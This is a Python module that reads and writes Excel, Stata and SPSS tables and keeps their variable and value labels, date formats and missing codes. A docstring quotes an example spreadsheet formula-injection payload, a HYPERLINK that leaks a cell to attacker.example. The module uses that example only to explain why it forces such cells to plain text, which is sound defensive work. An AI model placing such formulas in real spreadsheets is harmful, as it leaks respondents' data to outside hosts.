"""Excel, Stata and SPSS tables in and out, with the variable and value labels of the two
statistical formats kept in :class:`TableMetadata`. Public through :mod:`microagg.io`.

Stata and SPSS are read and written with pyreadstat (ReadStat), not with pandas' Stata
reader/writer: one code path for both formats, the column-to-value-label mapping is public
(``variable_value_labels``; pandas exposes it for reading only through a private attribute),
and pandas writes no SPSS at all (``pandas.read_spss`` itself calls pyreadstat).
Excel is read and written with pandas and openpyxl; it has no labels. Date and datetime
columns keep their kind in every format (:mod:`microagg.io._dates`).
"""

from __future__ import annotations

import math
import pathlib
import re
import warnings
from collections.abc import Collection, Mapping
from dataclasses import dataclass, field, replace
from typing import IO, Any, BinaryIO, Literal, cast

import pandas as pd

from ..exceptions import LabelsDroppedWarning
from ..schema.schema_file import check_unique_columns
from ._atomic import atomic_write
from ._dates import as_datetimes, excel_dates, readstat_dates
from ._formats import TableFormat, require_formats
from ._missing_codes import (
    MissingCode,
    declare_blank_text,
    is_stata_letter,
    readstat_missing,
    restore_codes,
)

__all__ = ["METADATA_KEY", "TableMetadata", "chosen_metadata", "read_excel", "read_labelled", "table_metadata",
           "write_excel", "write_labelled"]

METADATA_KEY = "microagg_metadata"
"""The key of :attr:`pandas.DataFrame.attrs` that holds a table's :class:`TableMetadata`."""

ValueLabels = Literal["labels", "codes"]

_KIND = {"dta": "Stata", "sav": "SPSS"}
_NAME_LIMIT = {"dta": (32, "characters"), "sav": (64, "bytes")}
_EXCEL_ROWS = 1_048_576  # rows of a worksheet, the header row included
_EXCEL_COLUMNS = 16_384
_SHEET_NAME = re.compile(r"^[^\[\]:*?/\\]{1,31}$")
SUPPRESSED = "*"
"""The value of a generalized column that says nothing (the root of a flat or an ARX
hierarchy): in a labelled column it is written as missing, the column's labels kept."""


@dataclass(frozen=True)
class TableMetadata:
    """The variable and value labels of a Stata or SPSS table, and the kind of its dates.

    :func:`microagg.io.read_table` puts one in ``df.attrs["microagg_metadata"]``;
    :func:`microagg.io.write_table` writes it back to ``.dta`` and ``.sav`` (other formats
    have no labels). A column read as its value labels (text) is written back as its codes
    with those labels, when every value is still one of them. A date column is read as
    ``datetime64`` and written again as a date or a datetime, as it was read (a Parquet
    table with ``date32`` columns has metadata with their kinds only).

    Parameters
    ----------
    variable_labels : dict of str to str
        Each labelled column's description (``{"age": "Age in years"}``).
    value_labels : dict of str to dict
        Each labelled column's codes and their labels (``{"sex": {1: "male", 2: "female"}}``).
    source_format : str
        The format read: ``"dta"``, ``"sav"`` (or ``"parquet"``).
    date_kinds : dict of str to str
        Each date column's kind as read: ``"date"`` (SPSS ``DATE11``, Stata ``%td``, Parquet
        ``date32``) or ``"datetime"`` (``DATETIME20``, ``%tc``, a timestamp).
    date_formats : dict of str to str
        Each Stata or SPSS date column's display format (``{"dob": "DATE11"}``), written
        again to the same format.
    missing_codes : dict of str to tuple
        Each column's missing-value codes (SPSS user-missing values, a ``(lo, hi)`` range,
        Stata letters ``"a"`` for ``.a``, or a schema's ``missing``):
        :mod:`microagg.io._missing_codes`.
    coded_cells : dict of str to dict
        For each column, the row positions of its coded cells (read as missing) and the code
        each held; written back where the published cell is still missing.
    n_rows : int
        The rows read (the coded cells' positions are in a table of that many rows).
    measures : dict of str to str
        SPSS measurement levels (``"nominal"``, ``"ordinal"``, ``"scale"``), written back to
        ``.sav``; an ``ordinal`` column is proposed as ``type = "ordinal"`` by init-schema.
    """

    variable_labels: dict[str, str] = field(default_factory=dict)
    value_labels: dict[str, dict[Any, str]] = field(default_factory=dict)
    source_format: str = ""
    date_kinds: dict[str, str] = field(default_factory=dict)
    date_formats: dict[str, str] = field(default_factory=dict)
    missing_codes: dict[str, tuple[MissingCode, ...]] = field(default_factory=dict)
    coded_cells: dict[str, dict[int, Any]] = field(default_factory=dict)
    n_rows: int = 0
    measures: dict[str, str] = field(default_factory=dict)

    def released(self, published: pd.DataFrame, *, masked: Collection[str]) -> TableMetadata:
        """The metadata that still describes a published table.

        Every column keeps its variable label. A column in `masked` keeps its value labels
        only if each published value is still one of its labelled codes (or, for a column
        read as labels, one of its labels, or ``*``: suppressed, written as missing);
        otherwise they are dropped with a
        :class:`~microagg.exceptions.LabelsDroppedWarning` (a group mean of codes 1 and 2
        is not "male"). Columns the table no longer has are forgotten (their labels and
        date kinds). The coded missing cells are kept for the columns not in `masked`,
        when `published` has the rows read (a masked column's codes stay declared).

        Parameters
        ----------
        published : pandas.DataFrame
            The table to be written.
        masked : collection of str
            The columns whose values the release changed (its quasi-identifiers).

        Returns
        -------
        TableMetadata
        """
        columns = {str(c) for c in published.columns}
        kept: dict[str, dict[Any, str]] = {}
        for col, mapping in self.value_labels.items():
            if col not in columns:
                continue
            if col in masked and _first_unlabelled(published[col], mapping) is not None:
                _warn_dropped(col, published[col], mapping, stacklevel=3)
                continue
            kept[col] = mapping
        same_rows = len(published) == self.n_rows
        return replace(self, value_labels=kept, variable_labels={
            c: label for c, label in self.variable_labels.items() if c in columns},
            date_kinds={c: k for c, k in self.date_kinds.items() if c in columns},
            date_formats={c: f for c, f in self.date_formats.items() if c in columns},
            missing_codes={c: v for c, v in self.missing_codes.items() if c in columns},
            coded_cells={c: v for c, v in self.coded_cells.items()
                         if c in columns and c not in masked and same_rows},
            measures={c: m for c, m in self.measures.items() if c in columns})


def table_metadata(df: pd.DataFrame) -> TableMetadata | None:
    """The :class:`TableMetadata` that :func:`~microagg.io.read_table` kept in ``df.attrs``,
    or ``None`` (a CSV or database table; a Parquet or Excel table without dates).

    Parameters
    ----------
    df : pandas.DataFrame
        A table read by :func:`~microagg.io.read_table`.
    """
    found = df.attrs.get(METADATA_KEY)
    if found is not None and not isinstance(found, TableMetadata):
        raise TypeError(f"df.attrs[{METADATA_KEY!r}] must be a TableMetadata. Got "
                        f"{type(found).__name__} instead.")
    return found


_PRECISION_NOTES = {"month": "month only (published as the 1st)",
                    "year": "year only (published as 1 January)"}
"""What a date column's variable label says when it is published by month or year."""


def with_date_precision(metadata: TableMetadata | None,
                        dates: Mapping[str, Mapping[str, Any]]) -> TableMetadata | None:
    """``metadata`` whose date columns published by month or year (``dates``: a release's
    ``params["dates"]``) say so in their variable label (``"Date of birth, year only
    (published as 1 January)"``): a typed date holds the first day of its period, which
    would otherwise look exact. ``None`` stays ``None`` when no date is coarsened."""
    notes = {col: _PRECISION_NOTES[entry.get("publish", "day")]
             for col, entry in dates.items() if entry.get("publish", "day") in _PRECISION_NOTES}
    if not notes:
        return metadata
    base = metadata if metadata is not None else TableMetadata()
    labels = dict(base.variable_labels)
    for col, note in notes.items():
        labels[col] = f"{labels.get(col) or col}, {note}"
    return replace(base, variable_labels=labels)


def chosen_metadata(df: pd.DataFrame, metadata: TableMetadata | None) -> TableMetadata | None:
    """The metadata :func:`~microagg.io.write_table` writes: `metadata`, else ``df.attrs``'."""
    if metadata is None:
        return table_metadata(df)
    if not isinstance(metadata, TableMetadata):
        raise TypeError("The 'metadata' parameter of write_table must be a TableMetadata. "
                        f"Got {type(metadata).__name__} instead.")
    return metadata


def _first_unlabelled(series: pd.Series, mapping: Mapping[Any, str]) -> Any:
    """The first non-missing value that is neither a labelled code nor a label (nor
    :data:`SUPPRESSED`), or None."""
    labels = set(mapping.values())
    for value in series.dropna().unique():
        if value not in mapping and value not in labels and value != SUPPRESSED:
            return value.item() if hasattr(value, "item") else value
    return None


def _warn_dropped(col: str, series: pd.Series, mapping: Mapping[Any, str], *,
                  stacklevel: int) -> None:
    example = _first_unlabelled(series, mapping)
    warnings.warn(
        f"The value labels of column {col!r} were dropped: its published values (e.g. "
        f"{example!r}) are no longer among its {len(mapping)} labelled codes; its variable "
        "label is kept.", LabelsDroppedWarning, stacklevel=stacklevel + 1)


def _as_labels(series: pd.Series, mapping: Mapping[Any, str]) -> pd.Series | None:
    """A column read as its labels (text), if every value has one and no two codes share one."""
    values = series.dropna()
    if len(set(mapping.values())) != len(mapping) or not values.isin(list(mapping)).all():
        return None
    return series.map(dict(mapping)).astype("str")


def read_labelled(file: pathlib.Path, fmt: TableFormat, *,
                  value_labels: ValueLabels = "labels") -> pd.DataFrame:
    """Read a Stata or SPSS file with its labels in ``df.attrs[METADATA_KEY]``.

    Validation of the path is assumed. With ``value_labels="labels"`` a column whose every
    value carries a label, and whose labels are distinct, is read as those labels (text), as
    sdcMicro users (and R's ``haven::as_factor``) expect of categorical key variables; a
    column with unlabelled values (a number with labelled special codes, e.g. 99 = refused)
    keeps its numbers. ``"codes"`` keeps every column's codes. Missing values (Stata's
    ``.a``-``.z``, SPSS user-missing codes) are read as missing (their codes kept
    in the metadata, :mod:`microagg.io._missing_codes`). A date column (SPSS
    ``DATE11``, Stata ``%td``: pyreadstat's ``datetime.date`` objects) is read as
    ``datetime64[s]``, a datetime (``DATETIME20``, ``%tc``) as pyreadstat gives it; their
    kinds and display formats are kept in the metadata.
    """
    if value_labels not in ("labels", "codes"):
        raise ValueError("The 'value_labels' parameter of read_table must be 'labels' or "
                         f"'codes'. Got {value_labels!r} instead.")
    pyreadstat = require_formats(file, "pyreadstat")
    reader = pyreadstat.read_dta if fmt == "dta" else pyreadstat.read_sav
    try:
        df, meta = reader(str(file), user_missing=True)
    except (pyreadstat.ReadstatError, pyreadstat.PyreadstatError, OSError) as exc:
        raise ValueError(f"Could not read {str(file)!r} as {_KIND[fmt]}: {exc}") from exc
    check_unique_columns(df.columns, source=f"input file {str(file)!r}")
    df, codes, coded = readstat_missing(df, meta, fmt)
    kinds = as_datetimes(df)
    metadata = TableMetadata(
        variable_labels={c: str(v) for c, v in meta.column_names_to_labels.items() if v},
        value_labels={c: dict(m) for c, m in meta.variable_value_labels.items()
                      if m and c in df.columns},
        source_format=fmt, date_kinds=dict(kinds),
        date_formats={c: str(meta.original_variable_types[c]) for c in kinds
                      if meta.original_variable_types.get(c)},
        missing_codes=codes, coded_cells=coded, n_rows=len(df),
        measures={c: str(m) for c, m in (getattr(meta, "variable_measure", None) or {}).items()
                  if m in ("nominal", "ordinal", "scale") and c in df.columns})
    if value_labels == "labels":
        for col, mapping in metadata.value_labels.items():
            labelled = _as_labels(df[col], mapping)
            if labelled is not None:
                df[col] = labelled
    df.attrs[METADATA_KEY] = metadata
    return df


def _labels_to_write(df: pd.DataFrame, metadata: TableMetadata, fmt: TableFormat
                     ) -> tuple[pd.DataFrame, dict[str, dict[Any, str]]]:
    """The table with labelled text columns back as codes, and the value labels that fit."""
    out = df.copy()
    written: dict[str, dict[Any, str]] = {}
    for col, mapping in metadata.value_labels.items():
        if col not in out.columns:
            continue
        series = out[col]
        if not pd.api.types.is_numeric_dtype(series):
            inverse = {label: code for code, label in mapping.items()}
            values = series.dropna()
            values = values[values != SUPPRESSED]
            if len(inverse) == len(mapping) and values.isin(list(inverse)).all():
                codes = series.map(inverse)
                out[col] = codes.astype("float64") if all(
                    _integral(c) or isinstance(c, float) for c in mapping) else codes
            elif not values.isin(list(mapping)).all():
                _warn_dropped(col, series, mapping, stacklevel=4)
                continue
        if fmt == "dta":
            if not all(_integral(code) or is_stata_letter(code) for code in mapping):
                warnings.warn(f"The value labels of column {col!r} were dropped: Stata labels "
                              f"integer codes only (got {sorted(map(repr, mapping))[:3]}).",
                              LabelsDroppedWarning, stacklevel=4)
                continue
            mapping = {code if is_stata_letter(code) else int(code): label
                       for code, label in mapping.items()}
        written[col] = mapping
    return out, written


def _integral(value: Any) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool) \
        and math.isfinite(value) and float(value).is_integer()


def _check_names(df: pd.DataFrame, file: pathlib.Path, fmt: TableFormat) -> None:
    limit, unit = _NAME_LIMIT[fmt]
    long = [str(c) for c in df.columns
            if len(str(c).encode("utf-8") if unit == "bytes" else str(c)) > limit]
    if long:
        raise ValueError(f"Column name(s) {', '.join(map(repr, long))} are too long for "
                         f"{_KIND[fmt]} ({limit} {unit} at most); rename them before "
                         f"writing {str(file)!r}.")


def write_labelled(df: pd.DataFrame, file: pathlib.Path, fmt: TableFormat,
                   metadata: TableMetadata | None) -> None:
    """Write a Stata or SPSS file atomically, with the labels of `metadata` that still fit.

    Validation of the path is assumed. Text columns are stored as strings (a missing text is
    written blank: Stata's missing string; in SPSS the blank is declared user-missing in
    that column). A text column read as labels is
    written as its codes with its value labels; one whose values are no longer all labels
    (generalized: ``"male|female"``) is written as text and its value labels dropped with a
    :class:`~microagg.exceptions.LabelsDroppedWarning`; a suppressed value (``*``) is
    written as system-missing, the labels kept. Missing-value codes go back where the
    metadata has them (:func:`microagg.io._missing_codes.restore_codes`). A date or datetime column is written
    with a date or datetime format, the one it was read with where it can
    (:func:`microagg.io._dates.readstat_dates`).
    """
    pyreadstat = require_formats(file, "pyreadstat")
    _check_names(df, file, fmt)
    out = df.reset_index(drop=True)
    for col in out.columns:
        if isinstance(out[col].dtype, pd.CategoricalDtype):
            out[col] = out[col].astype(out[col].cat.categories.dtype)
    value_labels: dict[str, dict[Any, str]] = {}
    column_labels: dict[str, str] = {}
    codes: dict[str, list[Any]] = {}
    same_format = metadata is not None and metadata.source_format == fmt
    if metadata is not None:
        out, value_labels = _labels_to_write(out, metadata, fmt)
        column_labels = {c: v for c, v in metadata.variable_labels.items() if c in out.columns}
        out, codes = restore_codes(out, metadata.missing_codes, metadata.coded_cells, fmt)
    if fmt == "sav":
        declare_blank_text(out, codes)
    measures = {c: m for c, m in metadata.measures.items() if c in out.columns} \
        if metadata is not None and same_format and fmt == "sav" else {}
    out, date_formats = readstat_dates(
        out, fmt, metadata.date_kinds if metadata is not None else {},
        metadata.date_formats if metadata is not None and same_format else {})
    extra: dict[str, Any] = ({"missing_ranges": codes or None,
                              "variable_measure": measures or None} if fmt == "sav"
                             else {"missing_user_values": codes or None})
    writer = pyreadstat.write_dta if fmt == "dta" else pyreadstat.write_sav

    def write(handle: IO[bytes]) -> None:
        # pyreadstat opens the path itself: the same inode, which atomic_write fsyncs.
        writer(out, handle.name, column_labels=column_labels or None,
               variable_value_labels=value_labels or None,
               variable_format=date_formats or None, **extra)

    try:
        atomic_write(file, write)
    except (pyreadstat.ReadstatError, pyreadstat.PyreadstatError) as exc:
        raise ValueError(f"Could not write {str(file)!r} as {_KIND[fmt]}: {exc}") from exc


def _sheet_to_read(book: pd.ExcelFile, sheet: str | int | None, file: pathlib.Path
                   ) -> str:
    names = [str(n) for n in book.sheet_names]
    if sheet is None:
        if not names:
            raise ValueError(f"Excel file {str(file)!r} has no worksheet.")
        return names[0]
    if isinstance(sheet, int) and not isinstance(sheet, bool) and 0 <= sheet < len(names):
        return names[sheet]
    if isinstance(sheet, str) and sheet in names:
        return sheet
    raise ValueError(f"The 'sheet' parameter of read_table must name a worksheet of "
                     f"{str(file)!r} (or be its index, 0 to {len(names) - 1}). Got {sheet!r} "
                     f"instead. Worksheets: {', '.join(map(repr, names))}.")


def read_excel(file: pathlib.Path, *, sheet: str | int | None = None,
               text_columns: Collection[str] = (), as_stored: bool = False) -> pd.DataFrame:
    """One worksheet of an ``.xlsx`` workbook (the first by default), its first row the header.

    Validation of the path is assumed. Cells keep the types Excel stored (a text
    ``01234`` stays text); a repeated header name is refused, as in CSV. Text cells that
    spell a missing value (``NA``, ``null``) are read as missing, unless ``as_stored``:
    then every text cell stays its text, only empty cells are missing, and no column's type
    is inferred (what a pass-through column publishes, :mod:`microagg.io._as_read`).
    """
    require_formats(file, "openpyxl")
    try:
        book = pd.ExcelFile(file, engine="openpyxl")
    except Exception as exc:  # zipfile, openpyxl and OS errors: not a workbook
        raise ValueError(f"Could not read {str(file)!r} as an Excel workbook: {exc}") from exc
    with book:
        name = _sheet_to_read(book, sheet, file)
        head = pd.read_excel(book, sheet_name=name, header=None, nrows=1)
        if head.shape[0]:
            check_unique_columns([str(v) for v in head.iloc[0] if pd.notna(v)],
                                 source=f"input file {str(file)!r}, sheet {name!r}")
        # as stored: pandas' parser would read the text "01234" as the number 1234
        if as_stored:  # text cells as text, "NA" too; empty cells missing
            return pd.read_excel(book, sheet_name=name, dtype=object, keep_default_na=False,
                                 na_values=[""])
        cells = pd.read_excel(book, sheet_name=name, dtype=object)
    for col in text_columns:
        if col in cells.columns:
            cells[col] = cells[col].map(_cell_text)
    return cells.infer_objects()


def _cell_text(value: Any) -> Any:
    """A cell of a text column: a number as it would be typed (``1``, not ``1.0``)."""
    if value is None or isinstance(value, str) or pd.isna(value):
        return value
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


def write_excel(df: pd.DataFrame, file: pathlib.Path, *, sheet: str | None = None,
                metadata: TableMetadata | None = None) -> None:
    """Write one worksheet (``sheet``, default ``"Sheet1"``) of a new ``.xlsx`` atomically.

    Validation of the path is assumed. Excel has no variable or value labels; a worksheet
    holds at most 1,048,575 rows under its header and 16,384 columns. A date column gets a
    date number format, a datetime one a date and time format (the kinds of `metadata`,
    :func:`microagg.io._dates.excel_dates`). Text is always a string cell, never a formula
    or an error value (:func:`_text_cells`).
    """
    name = "Sheet1" if sheet is None else sheet
    if not isinstance(name, str) or not _SHEET_NAME.match(name):
        raise ValueError("The 'sheet' parameter of write_table must be a worksheet name of 1 "
                         f"to 31 characters without []:*?/\\. Got {name!r} instead.")
    if df.shape[0] >= _EXCEL_ROWS or df.shape[1] > _EXCEL_COLUMNS:
        raise ValueError(f"A worksheet holds at most {_EXCEL_ROWS - 1} rows and "
                         f"{_EXCEL_COLUMNS} columns; the table has n_samples={df.shape[0]} "
                         f"and {df.shape[1]} columns. Write {str(file)!r} as Parquet or CSV.")
    require_formats(file, "openpyxl")
    table = excel_dates(df, metadata.date_kinds if metadata is not None else {})

    def write(handle: IO[bytes]) -> None:
        with pd.ExcelWriter(cast(BinaryIO, handle), engine="openpyxl") as writer:
            table.to_excel(writer, sheet_name=name, index=False)
            _text_cells(writer.sheets[name], table)

    atomic_write(file, write)


def _text_cells(worksheet: Any, table: pd.DataFrame) -> None:
    """Make every header cell and every cell of a text column a string cell.

    openpyxl stores a string that begins with ``=`` as a formula (a respondent's
    ``=HYPERLINK("http://attacker.example/?leak="&A2,"x")`` would be live in the release)
    and one equal to an error code (``#N/A``) as an error value. Such cells get openpyxl's
    explicit string data type (``"s"``) back, which keeps the exact text: Excel and
    LibreOffice show a string cell as text and never evaluate it, as for text beginning
    with ``+``, ``-`` or ``@``, which openpyxl already writes as strings. The leading-quote
    escape (``'=...``) is not used: it would change the published value for every other
    reader (pandas, R, a CSV export).
    """
    text_columns = [position for position, col in enumerate(table.columns, start=1)
                    if not (pd.api.types.is_numeric_dtype(table[col].dtype)
                            or pd.api.types.is_datetime64_any_dtype(table[col].dtype))]
    cells = [*worksheet[1]]
    for position in text_columns:
        cells += [row[0] for row in worksheet.iter_rows(min_row=2, min_col=position,
                                                          max_col=position)]
    for cell in cells:
        if cell.data_type in ("f", "e") and isinstance(cell.value, str):
            cell.data_type = "s"
